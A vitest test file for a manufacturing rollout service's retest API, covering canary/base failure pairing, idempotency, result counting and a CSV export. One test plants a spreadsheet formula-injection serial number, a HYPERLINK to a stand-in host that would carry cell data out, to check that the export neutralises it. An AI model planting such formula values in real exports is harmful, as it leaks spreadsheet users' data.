// Crossover retests through the real service: asked for, tested, read, printed, and without a word in first-pass yield.
import { describe, expect, test } from 'vitest'
import { type Bench, type TestLine, testLine } from '../support/test-line.ts'
import { type TestRollout, testRollout } from '../support/test-rollout.ts'
import { openTestService } from '../support/test-service.ts'

const service = await openTestService()
const { ask, clock } = service

type Story = { line: TestLine; rollout: TestRollout; canary: Bench; other: Bench }
type Pair = {
  pair: number
  state: string
  canary_failed: { serial: string }
  base_failed: { serial: string }
}

/** A rollout with one canary station of four, on which so many units failed, and as many more on a base station. */
async function story(failed: { canary: number; base: number }): Promise<Story> {
  const line = await testLine(service, { stations: 4 })
  const rollout = await testRollout(service, line)
  await rollout.confirm()
  const [canary] = await rollout.canaries()
  const other = line.benches.find((bench) => bench.id !== canary?.id)
  if (!canary || !other) throw new Error('expected a canary station and another')
  clock.pass(60_000)
  const made = { line, rollout, canary, other }
  await fail(made, 'canary', failed.canary)
  await fail(made, 'base', failed.base)
  return made
}

async function fail(
  { line, canary, other }: Story,
  arm: 'canary' | 'base',
  count: number,
  outcome = 'FAIL',
  first = 1,
): Promise<void> {
  const [station, deployment] = arm === 'canary' ? [canary, line.next] : [other, line.base]
  const numbers = Array.from({ length: count }, (_, index) => first + index)
  await line.runs(
    numbers.map((number) => ({ station, deployment, outcome, unit: `${arm}-${number}`, start: number })),
  )
}

/** A unit that failed on canary is tested on base, and the other way round. */
async function retest({ line, canary, other }: Story, unit: string, outcome: string): Promise<void> {
  clock.pass(60_000)
  const [station, deployment] = unit.startsWith('canary') ? [other, line.base] : [canary, line.next]
  expect((await line.run({ station, deployment, unit, outcome })).status).toBe(200)
}

const url = ({ rollout }: Story) => `/api/v1/rollouts/${rollout.id}/retests`
async function asked(told: Story, body: object = { count: 2 }) {
  clock.pass(60_000)
  return ask('POST', url(told), { body, headers: { 'x-actor-name': 'Ana' } })
}
const list = async (told: Story) => (await ask('GET', url(told))).body
const names = (pairs: Pair[]) =>
  pairs.map(({ pair, canary_failed, base_failed }) => [pair, canary_failed.serial, base_failed.serial])
const states = async (told: Story) => (await list(told)).data.map(({ state }: Pair) => state)

describe('asking', () => {
  test('lists the newest failures of both builds, where they failed and where they are to go', async () => {
    const told = await story({ canary: 3, base: 3 })
    const answer = await asked(told)
    expect(answer).toMatchObject({
      status: 200,
      body: {
        did: 'asked for 2 matched pairs to be tested again on the other build',
        summary: { asked: 2, done: 0, headline: 'none of 2 matched pairs has been tested again yet' },
      },
    })
    expect(names(answer.body.data)).toEqual([
      [1, 'canary-3', 'base-3'],
      [2, 'canary-2', 'base-2'],
    ])
    const benches = (await told.rollout.get()).stations.map((each: { name: string }) => each.name)
    expect(answer.body.data[0]).toMatchObject({
      state: 'waiting',
      asked_by: { name: 'Ana', door: 'api' },
      asked_at: clock.now(),
      canary_failed: {
        failed_in: 'canary',
        failed: { station: told.canary.name, site: 'Lyon', version: 'v2', outcome: 'FAIL' },
        retest_in: 'base',
        retest_version: 'v1',
        retest_stations: benches.filter((name: string) => name !== told.canary.name).sort(),
        result: null,
        not_counted: [],
      },
      base_failed: {
        failed_in: 'base',
        failed: { station: told.other.name, version: 'v1' },
        retest_in: 'canary',
        retest_version: 'v2',
        retest_stations: [told.canary.name],
      },
    })
  })

  test('again lists others and answers with all that are still to be tested, until none is left', async () => {
    const told = await story({ canary: 4, base: 3 })
    await asked(told)
    const more = await asked(told)
    expect(more.body.did).toBe(
      'asked for 1 matched pair to be tested again on the other build, of 2 wanted: there were 2 units that failed on v2 and 1 unit that failed on v1 to match',
    )
    expect(names(more.body.data)).toEqual([
      [1, 'canary-4', 'base-3'],
      [2, 'canary-3', 'base-2'],
      [3, 'canary-2', 'base-1'],
    ])
    expect(await asked(told)).toMatchObject({
      status: 409,
      body: {
        code: 'not_now',
        message:
          '1 unit that failed on v2 and 0 units that failed on v1 could be tested again; units that have passed since or were asked for before are left out. Ask again when more have failed.',
      },
    })
  })

  test('at the same moment lists no unit twice', async () => {
    const told = await story({ canary: 6, base: 6 })
    const answers = await Promise.all([1, 2, 3, 4].map(() => ask('POST', url(told), { body: { count: 2 } })))
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 200, 200, 409])
    const { data } = await list(told)
    expect(data.map(({ pair }: Pair) => pair)).toEqual([1, 2, 3, 4, 5, 6])
    const serials = names(data).flatMap(([, ...units]) => units)
    expect(new Set(serials).size).toBe(12)
  })

  test('with the same command id lists once, later and at the same moment', async () => {
    const told = await story({ canary: 6, base: 6 })
    const click = () =>
      ask('POST', url(told), { body: { count: 2, command_id: `retests ${told.rollout.id}` } })
    const answers = [...(await Promise.all([click(), click(), click()])), await click()]
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200])
    expect(new Set(answers.map((answer) => JSON.stringify(answer.body))).size).toBe(1)
    expect((await list(told)).data).toHaveLength(2)
  })

  test('is in the record once, said in the thread, and makes no button stale', async () => {
    const told = await story({ canary: 3, base: 3 })
    const { version } = await told.rollout.get()
    const refused = await story({ canary: 0, base: 0 })
    const ofThis = () => service.queued.filter(({ rolloutId }) => rolloutId === told.rollout.id).length
    const queued = ofThis()
    const body = { count: 2, command_id: `retests ${told.rollout.id}` }
    await asked(told, body)
    const at = clock.now()
    await asked(told, body)
    const events = await told.rollout.events()
    expect(events.filter(({ type }) => type === 'RetestsAsked')).toMatchObject([
      { pairs: 2, units: 4, by: { kind: 'program', name: 'Ana' }, at },
    ])
    const { sequence } = events.at(-1) ?? {}
    expect(service.queued.filter(({ rolloutId }) => rolloutId === told.rollout.id).slice(queued)).toEqual([
      { kind: 'card', rolloutId: told.rollout.id, number: 0 },
      { kind: 'thread', rolloutId: told.rollout.id, number: sequence },
    ])
    expect((await told.rollout.get()).version).toBe(version)
    expect((await asked(refused)).status).toBe(409)
    expect(await refused.rollout.eventTypes()).not.toContain('RetestsAsked')
  })

  test('leaves out what has passed since, and matches what was tried as often', async () => {
    const told = await story({ canary: 2, base: 3 })
    const { line, other } = told
    clock.pass(60_000)
    await line.run({ station: other, deployment: line.base, unit: 'base-3', outcome: 'PASS' })
    await line.run({ station: other, deployment: line.base, unit: 'base-2', outcome: 'FAIL' })
    expect(names((await asked(told)).body.data)).toEqual([[1, 'canary-2', 'base-1']])
    expect((await asked(told)).body.message).toMatch(
      /^1 unit that failed on v2 and 1 unit that failed on v1 could be tested again; no two match in/,
    )
  })

  test('takes errors and timeouts when told to, and says so where they would make pairs', async () => {
    const told = await story({ canary: 0, base: 1 })
    await fail(told, 'canary', 2, 'ERROR')
    await fail(told, 'base', 2, 'TIMEOUT', 5)
    expect((await asked(told)).body.message).toMatch(
      /With errors and timeouts it would be 2 and 3: ask for these too\.$/,
    )
    const answer = await asked(told, { count: 2, with_errors: true })
    expect(names(answer.body.data)).toEqual([
      [1, 'canary-2', 'base-6'],
      [2, 'canary-1', 'base-5'],
    ])
  })

  test('never lists reference samples, units of before the start, or runs of a third build', async () => {
    const told = await story({ canary: 1, base: 0 })
    const { line, canary, other } = told
    const third = await line.build('v3')
    await line.runs([
      { station: other, deployment: line.base, outcome: 'FAIL', more: { sample: 'golden' } },
      { station: other, deployment: line.base, outcome: 'FAIL', start: -3_600_000 },
      { station: canary, deployment: third, outcome: 'FAIL' },
    ])
    expect((await asked(told)).body.message).toMatch(/^1 unit that failed on v2 and 0 units that failed/)
  })

  test('is refused before the start, without stations of both builds, and for a rollout that is not there', async () => {
    const line = await testLine(service, { stations: 2 })
    const pending = await testRollout(service, line, { start_approvals: 1 })
    const refused = async (id: string) =>
      (await ask('POST', `/api/v1/rollouts/${id}/retests`, { body: { count: 1 } })).body
    expect(await refused(pending.id)).toMatchObject({
      code: 'not_now',
      message: expect.stringMatching(/^The rollout has not started\./),
    })
    const told = await story({ canary: 1, base: 1 })
    await told.rollout.verb('abort', { reason: 'bad smell' })
    expect((await refused(told.rollout.id)).message).toMatch(
      /^A unit is tested again at its own site, and no site has a station confirmed on v2 and another on v1 now\./,
    )
    expect(await refused('00000000-0000-4000-8000-000000000000')).toMatchObject({ code: 'not_found' })
  })

  test.each([[{}], [{ count: 0 }], [{ count: 1.5 }], [{ count: 201 }], [{ count: 1, by: 'me' }]])(
    'with %j is a 422',
    async (body) => {
      const id = '00000000-0000-4000-8000-000000000000'
      expect(await ask('POST', `/api/v1/rollouts/${id}/retests`, { body })).toMatchObject({
        status: 422,
        body: { code: 'invalid' },
      })
    },
  )
})

describe('what is tested', () => {
  test('moves each pair to what it shows, and the rollout tells the sum', async () => {
    const told = await story({ canary: 4, base: 4 })
    expect((await told.rollout.get()).retests).toBeNull()
    await asked(told, { count: 4 })
    await retest(told, 'canary-4', 'PASS')
    expect(await states(told)).toEqual(['one done', 'waiting', 'waiting', 'waiting'])
    await retest(told, 'base-4', 'FAIL')
    await retest(told, 'base-3', 'PASS')
    await retest(told, 'canary-3', 'FAIL')
    await retest(told, 'canary-2', 'ABORTED')
    await retest(told, 'canary-2', 'PASS')
    await retest(told, 'base-2', 'PASS')
    const { line, canary } = told
    await line.run({ station: canary, deployment: line.next, unit: 'CANARY-1', outcome: 'FAIL' })
    expect(await states(told)).toEqual(['worse', 'better', 'concordant', 'void'])
    const { data, summary } = await list(told)
    expect(data[0].canary_failed.result).toMatchObject({ outcome: 'PASS', station: told.other.name })
    expect(data[3].canary_failed).toMatchObject({
      result: null,
      not_counted: [{ outcome: 'FAIL', version: 'v2', station: canary.name }],
    })
    expect(summary).toMatchObject({ asked: 4, done: 3, worse: 1, better: 1, concordant: 1, void: 1 })
    expect((await told.rollout.get()).retests).toEqual(summary)
  })

  test('counts when it arrives late, by when it started', async () => {
    const told = await story({ canary: 1, base: 1 })
    await asked(told)
    await retest(told, 'canary-1', 'FAIL')
    await retest(told, 'base-1', 'FAIL')
    const { line, other } = told
    await line.run({
      station: other,
      deployment: line.base,
      unit: 'canary-1',
      outcome: 'PASS',
      start: -90_000,
    })
    expect(await states(told)).toEqual(['worse'])
  })

  test('is still told after the rollout has ended', async () => {
    const told = await story({ canary: 1, base: 1 })
    await asked(told)
    await retest(told, 'canary-1', 'PASS')
    await retest(told, 'base-1', 'FAIL')
    await told.rollout.verb('abort', { reason: 'it fails good units' })
    expect(await states(told)).toEqual(['worse'])
  })

  test('moves nothing in first-pass yield, and counts as a run of the station that made it', async () => {
    const told = await story({ canary: 2, base: 2 })
    const before = await told.rollout.get()
    await asked(told)
    await retest(told, 'canary-2', 'PASS')
    await retest(told, 'canary-1', 'PASS')
    await retest(told, 'base-2', 'ERROR')
    await retest(told, 'base-1', 'TIMEOUT')
    const after = await told.rollout.get()
    const yields = ({ units, passed, first_pass_yield }: Record<string, unknown>) => ({
      units,
      passed,
      first_pass_yield,
    })
    expect(yields(after.canary_arm)).toEqual({ units: 2, passed: 0, first_pass_yield: 0 })
    for (const arm of ['canary_arm', 'base_arm']) expect(yields(after[arm])).toEqual(yields(before[arm]))
    expect(after.canary_arm).toMatchObject({ runs: 4, errors: 1, timeouts: 1, pass_runs: 0 })
    expect(after.base_arm).toMatchObject({ runs: 4, errors: 0, timeouts: 0, pass_runs: 2 })
  })
})

describe('the printed list', () => {
  test('has a line for each unit, quoted, and no serial number that a spreadsheet would run', async () => {
    const told = await story({ canary: 0, base: 1 })
    const { line, canary } = told
    const unit = '=HYPERLINK("http://x.test?"&A1,"SN, 7")'
    const more = { failure_mode: 'VCC "rail 3"\nlow' }
    await line.runs([{ station: canary, deployment: line.next, outcome: 'FAIL', unit, more }])
    await asked(told)
    await retest(told, 'base-1', 'PASS')
    const { status, headers, body } = await ask('GET', `${url(told)}?format=csv`)
    expect(status).toBe(200)
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="retests-${told.rollout.id}.csv"`,
    })
    const [head, ofCanary, ofBase] = String(body).split('\r\n')
    expect(head).toBe(
      '\uFEFFpair,serial_number,test_with,test_on,failed_with,failed_on,failed_at,outcome,failure,pair_is,result,tested_on,tested_at',
    )
    expect(ofCanary).toMatch(
      /^1,"'=HYPERLINK\(""http:\/\/x\.test\?""&A1,""SN, 7""\)",v1,(ST-\S+ or ){2}ST-\S+,v2,ST-\S+,2026-.*Z,FAIL,/,
    )
    expect(ofCanary).toMatch(/,one done,,,$/)
    const iso = (unit: { at: number }) => new Date(unit.at).toISOString()
    const { failed, result } = (await list(told)).data[0].base_failed
    expect(ofBase).toBe(
      `1,base-1,v2,${canary.name},v1,${told.other.name},${iso(failed)},FAIL,,one done,PASS,${canary.name},${iso(result)}`,
    )
  })
})

test.each([
  ['GET', undefined],
  ['POST', { count: 1 }],
] as const)('%s is for the admin token, and of a rollout that is there', async (method, body) => {
  const nobody = '/api/v1/rollouts/00000000-0000-4000-8000-000000000000/retests'
  const more = body ? { body } : {}
  expect((await ask(method, nobody, { token: null, ...more })).status).toBe(401)
  expect(await ask(method, nobody, more)).toMatchObject({ status: 404, body: { code: 'not_found' } })
})
